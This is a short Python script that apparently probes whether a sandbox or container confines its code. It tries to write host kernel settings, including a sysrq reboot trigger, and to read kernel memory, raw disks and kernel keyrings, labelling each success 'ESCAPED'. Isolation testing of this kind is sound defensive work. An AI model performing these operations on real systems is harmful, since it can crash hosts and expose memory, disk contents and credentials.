#: what    change settings of the host's kernel and read its secrets
import os

for path, value in (
    ("/proc/sys/kernel/hostname", "x"),
    ("/proc/sysrq-trigger", "b"),
    ("/sys/kernel/mm/ksm/run", "1"),
    ("/proc/1/oom_score_adj", "-1000"),
    ("/sys/fs/cgroup/cgroup.procs", "1"),
):
    try:
        with open(path, "w") as f:
            f.write(value)
        if "oom" not in path:
            print("ESCAPED", path)
    except OSError as e:
        print("refused", path, e)
for path in ("/proc/kcore", "/proc/kallsyms", "/dev/mem", "/dev/kmsg", "/dev/kvm", "/dev/vda", "/dev/sda", "/proc/keys"):
    try:
        if open(path, "rb").read(64).strip(b"\0"):
            print("ESCAPED", path)
    except OSError as e:
        print("refused", path, e)
